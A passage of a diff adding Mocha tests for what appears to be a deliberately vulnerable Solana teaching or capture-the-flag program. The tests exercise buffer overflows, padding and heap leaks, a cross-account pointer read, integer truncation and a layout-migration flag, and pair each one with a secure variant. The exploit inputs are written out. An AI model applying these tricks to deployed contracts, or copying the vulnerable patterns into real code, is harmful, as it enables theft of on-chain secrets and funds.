+      recordBook = playerAccount("record_book", user.publicKey);
+      await program.methods
+        .initializeRecordBook()
+        .accounts({ recordBook, user: user.publicKey })
+        .signers([user])
+        .rpc();
+    });
+
+    const append = (method: "appendRecord" | "secureAppendRecord", id: number) =>
+      program.methods[method](new anchor.BN(id), new anchor.BN(0xdeadbeef))
+        .accounts({ recordBook, user: user.publicKey })
+        .signers([user])
+        .rpc();
+
+    it("Should let appends past capacity overwrite sensitive_key", async () => {
+      const before = await program.account.recordBook.fetch(recordBook);
+      for (let id = 1; id <= 6; id++) {
+        await append("appendRecord", id);
+      }
+
+      const after = await program.account.recordBook.fetch(recordBook);
+      expect(after.count.toNumber()).to.equal(6);
+      expect(after.sensitiveKey).to.not.deep.equal(before.sensitiveKey);
+      // Record 5's id lands in the first 8 bytes of sensitive_key
+      expect(Buffer.from(after.sensitiveKey.slice(0, 8)).readBigUInt64LE()).to.equal(5n);
+      console.log("✅ Records 5 and 6 clobbered sensitive_key");
+    });
+
+    it("Should stop at the real capacity in the secure version", async () => {
+      const before = await program.account.recordBook.fetch(recordBook);
+      for (let id = 1; id <= 4; id++) {
+        await append("secureAppendRecord", id);
+      }
+
+      try {
+        await append("secureAppendRecord", 5);
+        expect.fail("Expected record book full error");
+      } catch (error: any) {
+        const errorMessage = error.error?.errorMessage || error.message || String(error);
+        expect(errorMessage).to.include("Record book is full");
+      }
+
+      const after = await program.account.recordBook.fetch(recordBook);
+      expect(after.sensitiveKey).to.deep.equal(before.sensitiveKey);
+      console.log("✅ Secure append kept sensitive_key intact");
+    });
+  });
+
+  describe("Padding Bytes Leak", () => {
+
+    const returnData = async (method: "exportTarget" | "secureExportTarget") => {
+      const tx = await program.methods[method]()
+        .accounts({ targetAccount: targetAccount })
+        .transaction();
+      tx.feePayer = user.publicKey;
+      tx.recentBlockhash = (await provider.connection.getLatestBlockhash()).blockhash;
+      const { value } = await provider.connection.simulateTransaction(tx, [user]);
+      return Buffer.from(value.returnData.data[0], "base64");
+    };
+
+    beforeEach(async () => {
+      await program.methods
+        .initializeTarget()
+        .accounts({ targetAccount: targetAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+      await program.methods
+        .rotateSensitiveData(new anchor.BN(99999))
+        .accounts({ targetAccount: targetAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+    });
+
+    it("Should leak the old sensitive_data through _padding1", async () => {
+      const header = await returnData("exportTarget");
+
+      expect(header.length).to.equal(16);
+      // is_active, is_initialized, then 6 bytes of padding
+      const leaked = Buffer.alloc(8);
+      header.copy(leaked, 0, 2, 8);
+      expect(leaked.readBigUInt64LE()).to.equal(12345n);
+      console.log("✅ Recovered the rotated-out secret from padding");
+    });
+
+    it("Should export only real fields in the secure version", async () => {
+      const view = await returnData("secureExportTarget");
+
+      expect(view.length).to.equal(10);
+      expect(view[0]).to.equal(1);
+      expect(view[1]).to.equal(1);
+      expect(view.readBigUInt64LE(2)).to.equal(42n);
+      console.log("✅ Field-by-field serialization leaves padding behind");
+    });
+  });
+
+  describe("Cross-Account Pointer Read", () => {
+
+    // buffer.data sits 16 bytes into its account. The neighbour's data starts
+    // after the rest of this account's data (64), the 10 KiB realloc region,
+    // rent_epoch (8) and the neighbour's 88-byte header.
+    const NEIGHBOUR_DATA_INDEX = 64 + 10 * 1024 + 8 + 88;
+
+    const simulate = async (builder: any) => {
+      const tx = await builder
+        .accounts({
+          bufferAccount: bufferAccount,
+          neighbour: targetAccount,
+          user: user.publicKey,
+        })
+        .transaction();
+      tx.feePayer = user.publicKey;
+      tx.recentBlockhash = (await provider.connection.getLatestBlockhash()).blockhash;
+      const { value } = await provider.connection.simulateTransaction(tx, [user]);
+      return value;
+    };
+
+    beforeEach(async () => {
+      await program.methods
+        .initializeBuffer()
+        .accounts({ bufferAccount: bufferAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+      await program.methods
+        .initializeTarget()
+        .accounts({ targetAccount: targetAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+    });
+
+    it("Should read the neighbour's sensitive_data through the buffer pointer", async () => {
+      // sensitive_data is 24 bytes into a TargetAccount
+      const value = await simulate(program.methods.peekDemo(NEIGHBOUR_DATA_INDEX + 24, 8));
+      const leaked = Buffer.from(value.returnData.data[0], "base64");
+
+      expect(leaked.readBigUInt64LE()).to.equal(12345n);
+      console.log("✅ Leaked another account's data via pointer arithmetic");
+    });
+
+    it("Should keep reads inside the named account in the secure version", async () => {
+      const value = await simulate(program.methods.securePeek(1, 24, 8));
+      expect(Buffer.from(value.returnData.data[0], "base64").readBigUInt64LE()).to.equal(12345n);
+
+      const outOfBounds = await simulate(program.methods.securePeek(0, NEIGHBOUR_DATA_INDEX + 40, 8));
+      expect(outOfBounds.err).to.not.be.null;
+      expect(outOfBounds.logs.join("\n")).to.include("Offset is outside the buffer");
+      console.log("✅ Secure peek rejects reads past the account's own data");
+    });
+  });
+
+  describe("MaybeUninit Misuse", () => {
+    it("Should rebuild only the fields fresh_target remembers to write", async () => {
+      await program.methods
+        .initializeTarget()
+        .accounts({ targetAccount: targetAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+
+      await program.methods
+        .rebuildTarget(new anchor.BN(7))
+        .accounts({ targetAccount: targetAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+
+      const account = await program.account.targetAccount.fetch(targetAccount);
+      expect(account.isActive).to.equal(1);
+      expect(account.isInitialized).to.equal(1);
+      expect(account.data.toNumber()).to.equal(7);
+      expect(account.owner.toBase58()).to.equal(user.publicKey.toBase58());
+      // Default build: stack garbage. With --features secure-init: 0.
+      console.log("✅ sensitive_data after rebuild:", account.sensitiveData.toString());
+    });
+  });
+
+  describe("Packed Struct Alignment", () => {
+    let packedAccount: web3.PublicKey;
+
+    beforeEach(async () => {
+      packedAccount = playerAccount("packed", user.publicKey);
+      await program.methods
+        .initializePacked()
+        .accounts({ packedAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+    });
+
+    it("Demonstrate a misaligned reference to a packed field", async () => {
+      try {
+        await program.methods
+          .creditPackedDemo(new anchor.BN(5))
+          .accounts({ packedAccount, user: user.publicKey })
+          .signers([user])
+          .rpc();
+        // Release builds usually get away with it on SBF
+        console.log("✅ Misaligned &mut u64 went unnoticed (undefined behavior)");
+      } catch (error: any) {
+        const logs: string[] = error.logs || error.transactionLogs || [];
+        expect(logs.join("\n")).to.include("misaligned");
+        console.log("✅ Misaligned reference caught by a debug assertion");
+      }
+    });
+
+    it("Should update the packed field by copying it out", async () => {
+      for (let i = 0; i < 2; i++) {
+        await program.methods
+          .secureCreditPacked(new anchor.BN(5))
+          .accounts({ packedAccount, user: user.publicKey })
+          .signers([user])
+          .rpc();
+      }
+
+      const account = await program.account.packedAccount.fetch(packedAccount);
+      expect(account.amount.toNumber()).to.equal(10);
+      console.log("✅ Copy-out update works without alignment assumptions");
+    });
+  });
+
+  describe("Integer Truncation", () => {
+    const pattern = Buffer.from("AAAA", "utf-8");
+
+    beforeEach(async () => {
+      await program.methods
+        .initializeBuffer()
+        .accounts({ bufferAccount: bufferAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+    });
+
+    const fill = (method: "fillBufferDemo" | "secureFillBuffer", len: number) =>
+      program.methods[method](pattern, new anchor.BN(len))
+        .accounts({ bufferAccount: bufferAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+
+    it("Should pass the u16 check with a truncating length and overflow", async () => {
+      // 65600 as u16 == 64
+      try {
+        await fill("fillBufferDemo", 65600);
+        expect.fail("Expected the fill to run off the end of the input region");
+      } catch (error: any) {
+        const logs: string[] = error.logs || error.transactionLogs || [];
+        expect(logs.join("\n")).to.not.include("Buffer overflow detected");
+        expect(logs.join("\n")).to.include("Access violation");
+        console.log("✅ Truncated length passed the check and overflowed the buffer");
+      }
+    });
+
+    it("Should reject the same length in the secure version", async () => {
+      try {
+        await fill("secureFillBuffer", 65600);
+        expect.fail("Expected buffer overflow error");
+      } catch (error: any) {
+        const errorMessage = error.error?.errorMessage || error.message || String(error);
+        expect(errorMessage).to.include("Buffer overflow detected");
+      }
+
+      await fill("secureFillBuffer", 64);
+      const account = await program.account.bufferAccount.fetch(bufferAccount);
+      expect(Buffer.from(account.data).toString("utf-8")).to.equal("A".repeat(64));
+      console.log("✅ Secure fill checks the full-width length");
+    });
+  });
+
+  describe("Vec set_len Misuse", () => {
+
+    const exported = async (method: "exportBufferDemo" | "secureExportBuffer", len: number) => {
+      const tx = await program.methods[method](len)
+        .accounts({ bufferAccount: bufferAccount })
+        .transaction();
+      tx.feePayer = user.publicKey;
+      tx.recentBlockhash = (await provider.connection.getLatestBlockhash()).blockhash;
+      const { value } = await provider.connection.simulateTransaction(tx, [user]);
+      return Buffer.from(value.returnData.data[0], "base64");
+    };
+
+    beforeEach(async () => {
+      await program.methods
+        .initializeBuffer()
+        .accounts({ bufferAccount: bufferAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+      await program.methods
+        .bufferOverflowDemo(Buffer.from("public", "utf-8"))
+        .accounts({ bufferAccount: bufferAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+    });
+
+    it("Should return heap bytes past the 6 it wrote", async () => {
+      const out = await exported("exportBufferDemo", 256);
+
+      expect(out.length).to.equal(256);
+      expect(out.subarray(0, 6).toString("utf-8")).to.equal("public");
+      console.log("✅ Leaked heap bytes:", out.subarray(6, 70).toString("hex"));
+    });
+
+    it("Should zero-pad in the secure version", async () => {
+      const out = await exported("secureExportBuffer", 256);
+
+      expect(out.length).to.equal(256);
+      expect(out.subarray(0, 6).toString("utf-8")).to.equal("public");
+      expect(out.subarray(6).every((byte) => byte === 0)).to.be.true;
+      console.log("✅ Every returned byte was written first");
+    });
+  });
+
+  describe("Reset Instructions", () => {
+    it("Should restore a buffer after an exploit attempt", async () => {
+      await program.methods
+        .initializeBuffer()
+        .accounts({ bufferAccount: bufferAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+      await program.methods
+        .bufferOverflowDemo(Buffer.alloc(64, 0xff))
+        .accounts({ bufferAccount: bufferAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+
+      await program.methods
+        .resetBuffer()
+        .accounts({ bufferAccount: bufferAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+
+      const account = await program.account.bufferAccount.fetch(bufferAccount);
+      expect(account.size.toNumber()).to.equal(0);
+      expect(account.data.every((byte: number) => byte === 0)).to.be.true;
+      console.log("✅ Buffer reset to its initialized state");
+    });
+
+    it("Should restore a complex account, clearing is_admin", async () => {
+      await program.methods
+        .initializeComplex()
+        .accounts({ targetAccount: complexAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+      await program.methods
+        .complexVulnerabilityDemo(1, Buffer.concat([Buffer.alloc(32), Buffer.from([0x41])]))
+        .accounts({ targetAccount: complexAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+
+      await program.methods
+        .resetComplex()
+        .accounts({ targetAccount: complexAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+
+      const account = await program.account.complexAccount.fetch(complexAccount);
+      expect(account.isAdmin).to.equal(0);
+      expect(account.sensitiveData.toNumber()).to.equal(12345);
+      expect(account.owner.toBase58()).to.equal(user.publicKey.toBase58());
+      console.log("✅ Complex account reset, owner kept");
+    });
+
+    it("Should only let the owner reset a target", async () => {
+      const other = web3.Keypair.generate();
+      await program.methods
+        .initializeTarget()
+        .accounts({ targetAccount: targetAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+
+      try {
+        await program.methods
+          .resetTarget()
+          .accounts({ targetAccount: targetAccount, user: other.publicKey })
+          .signers([other])
+          .rpc();
+        expect.fail("Expected unauthorized error");
+      } catch (error: any) {
+        const errorMessage = error.error?.errorMessage || error.message || String(error);
+        expect(errorMessage).to.include("Signer does not own this account");
+      }
+
+      await program.methods
+        .resetTarget()
+        .accounts({ targetAccount: targetAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+      console.log("✅ Only the owner can reset a target");
+    });
+  });
+
+  describe("Memory Checksum Events", () => {
+    const checksumEvents = async (signature: string) => {
+      const tx = await provider.connection.getTransaction(signature, {
+        commitment: "confirmed",
+        maxSupportedTransactionVersion: 0,
+      });
+      const parser = new anchor.EventParser(program.programId, program.coder);
+      return [...parser.parseLogs(tx.meta.logMessages)].filter(
+        (event) => event.name === "memoryChecksumEvent"
+      );
+    };
+
+    beforeEach(async () => {
+      await program.methods
+        .initializeBuffer()
+        .accounts({ bufferAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+    });
+
+    it("Should report a changed checksum when a demo writes to the buffer", async () => {
+      const signature = await program.methods
+        .bufferOverflowDemo(Buffer.from("corrupt", "utf-8"))
+        .accounts({ bufferAccount, user: user.publicKey })
+        .signers([user])
+        .rpc({ commitment: "confirmed" });
+
+      const [event] = await checksumEvents(signature);
+      expect(event.data.instruction).to.equal("buffer_overflow_demo");
+      expect(event.data.account.toBase58()).to.equal(bufferAccount.toBase58());
+      expect(event.data.before.eq(event.data.after)).to.be.false;
+      expect(event.data.dataLen.toNumber()).to.equal(80);
+      console.log("✅ Checksum event flagged the write");
+    });
+
+    it("Should report an unchanged checksum when nothing was written", async () => {
+      const signature = await program.methods
+        .tornWriteDemo(Buffer.alloc(0), false)
+        .accounts({ bufferAccount, user: user.publicKey })
+        .signers([user])
+        .rpc({ commitment: "confirmed" });
+
+      const [event] = await checksumEvents(signature);
+      expect(event.data.before.eq(event.data.after)).to.be.true;
+      console.log("✅ Checksum event shows the account untouched");
+    });
+  });
+
+  describe("Layout Migration Challenge", () => {
+    const registryProgramId = new web3.PublicKey("CH4SZAsJAwTf4nwjvErPZt7KyXCHysCxGKptVPReQpCc");
+    const [flagAuthority] = web3.PublicKey.findProgramAddressSync(
+      [Buffer.from("flag_authority")],
+      program.programId
+    );
+
+    // Bytes 56..64 of the V1 data become the V2 size
+    const payload = Buffer.alloc(64);
+    payload.writeBigUInt64LE(1000n, 56);
+
+    beforeEach(async () => {
+      await program.methods
+        .initializeBuffer()
+        .accounts({ bufferAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+      await program.methods
+        .bufferOverflowDemo(payload)
+        .accounts({ bufferAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+    });
+
+    const migrate = (method: "migrateBuffer" | "secureMigrateBuffer") =>
+      program.methods[method]()
+        .accounts({ bufferAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+
+    it("Should scramble fields when bytes are reinterpreted as V2", async () => {
+      await migrate("migrateBuffer");
+
+      const v2 = await program.account.bufferAccountV2.fetch(bufferAccount);
+      expect(v2.size.toNumber()).to.equal(1000);
+      // The old size (64) now sits in the first 8 bytes of data
+      expect(Buffer.from(v2.data).readBigUInt64LE(0)).to.equal(64n);
+      console.log("✅ Skewed migration forged a size past the 64-byte capacity");
+    });
+
+    it("Should keep fields intact with the field-wise migration", async () => {
+      await migrate("secureMigrateBuffer");
+
+      const v2 = await program.account.bufferAccountV2.fetch(bufferAccount);
+      expect(v2.size.toNumber()).to.equal(64);
+      expect(Buffer.from(v2.data)).to.deep.equal(payload);
+
+      try {
+        await program.methods
+          .captureMigrationFlag()
+          .accounts({
+            bufferAccount,
+            challenge: web3.Keypair.generate().publicKey,
+            solve: web3.Keypair.generate().publicKey,
+            flagAuthority,
+            player: user.publicKey,
+            registryProgram: registryProgramId,
+          })
+          .signers([user])
+          .rpc();
+        expect.fail("Expected migration not skewed error");
+      } catch (error: any) {
+        const errorMessage = error.error?.errorMessage || error.message || String(error);
+        expect(errorMessage).to.include("Buffer size is within capacity");
+        console.log("✅ Correct migration leaves nothing to claim");
+      }
+    });
+  });
+
+  describe("Unaligned References", () => {
+    beforeEach(async () => {
+      await program.methods
+        .initializeBuffer()
+        .accounts({ bufferAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+      await program.methods
+        .bufferOverflowDemo(Buffer.from([0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15]))
+        .accounts({ bufferAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+    });
+
+    const simulate = async (method: "unalignedRefDemo" | "secureUnalignedRead", offset: number) => {
+      const tx = await program.methods[method](offset)
+        .accounts({ bufferAccount, user: user.publicKey })
+        .transaction();
+      tx.feePayer = user.publicKey;
+      tx.recentBlockhash = (await provider.connection.getLatestBlockhash()).blockhash;
+      const { value } = await provider.connection.simulateTransaction(tx, [user]);
+      return value.logs.join("\n");
+    };
+
+    it("Should create a misaligned &u64 at an odd offset", async () => {
+      const logs = await simulate("unalignedRefDemo", 3);
+
+      expect(logs).to.include("bytes off alignment");
+      // Release builds read through the reference, debug builds panic on it
+      expect(logs).to.match(/Reference read \d+, read_unaligned \d+|misaligned pointer dereference/);
+      console.log("✅ Misaligned reference created:", logs.match(/Reference read.*|misaligned.*/)?.[0]);
+    });
+
+    it("Should fall back to read_unaligned in the secure version", async () => {
+      const logs = await simulate("secureUnalignedRead", 3);
+
+      const expected = Buffer.from([3, 4, 5, 6, 7, 8, 9, 10]).readBigUInt64LE();
+      expect(logs).to.include("Pointer is misaligned, using read_unaligned");
+      expect(logs).to.include(`Value at offset 3: ${expected}`);
+      console.log("✅ Misalignment detected and handled");
+    });
+  });
+
+  describe("Copy Benchmark", () => {
+    const benchmark = async (len: number) => {
+      const tx = await program.methods
+        .copyBenchmark(new anchor.BN(len))
+        .accounts({ user: user.publicKey })
+        .transaction();
+      tx.feePayer = user.publicKey;
+      tx.recentBlockhash = (await provider.connection.getLatestBlockhash()).blockhash;
+      const { value } = await provider.connection.simulateTransaction(tx, [user]);
+      const data = Buffer.from(value.returnData.data[0], "base64");
+      return {
+        loopUnits: data.readBigUInt64LE(8),
+        copyUnits: data.readBigUInt64LE(16),
+        delta: data.readBigInt64LE(24),
+      };
+    };
+
+    it("Should report compute units for both copy strategies", async () => {
+      for (const len of [64, 1024, 4096]) {
+        const { loopUnits, copyUnits, delta } = await benchmark(len);
+        expect(delta).to.equal(loopUnits - copyUnits);
+        console.log(`✅ ${len} bytes: loop ${loopUnits} CU, copy_nonoverlapping ${copyUnits} CU`);
+      }
+    });
+
+    it("Should reject lengths past the scratch limit", async () => {
+      try {
+        await program.methods
+          .copyBenchmark(new anchor.BN(4097))
+          .accounts({ user: user.publicKey })
+          .signers([user])
+          .rpc();
+        expect.fail("Expected allocation too large error");
+      } catch (error: any) {
+        const errorMessage = error.error?.errorMessage || error.message || String(error);
+        expect(errorMessage).to.include("Requested allocation is too large");
+      }
+    });
+  });
+
+  describe("Memory Safety Best Practices Demo", () => {
+    it("Should demonstrate safe memory operations", async () => {
+      // Proper initialization
+      await program.methods
+        .initializeTarget()
+        .accounts({
+          targetAccount: targetAccount,
+          user: user.publicKey,
+        })
+        .signers([user])
         .rpc();
 
       // Safe data access
       await program.methods
         .uninitializedMemoryDemo()
         .accounts({
-          targetAccount: safeAccount.publicKey,
+          targetAccount: targetAccount,
           user: user.publicKey,
         })
         .signers([user])
@@ -375,7 +1791,7 @@ describe("memory-safety-vulns", () => {
       await program.methods
         .nullPointerDemo(false)
         .accounts({
-          targetAccount: safeAccount.publicKey,
+          targetAccount: targetAccount,
           user: user.publicKey,
         })
         .signers([user])